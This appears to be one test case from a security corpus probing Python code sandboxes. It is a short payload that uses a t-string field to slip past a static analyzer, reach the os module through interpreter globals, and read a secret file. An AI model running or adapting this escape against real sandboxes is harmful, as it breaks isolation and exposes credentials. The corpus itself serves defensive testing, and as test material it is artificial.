# class: parser differentials
# technique: a t-string's fields
# layers: analyzer, supervisor
# code: user
# control: CPython before 3.14 has no t-strings
# witness: secret
host = _items[0]["json"]
t = t"{(g := quit.__init__.__globals__) and 1}"
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
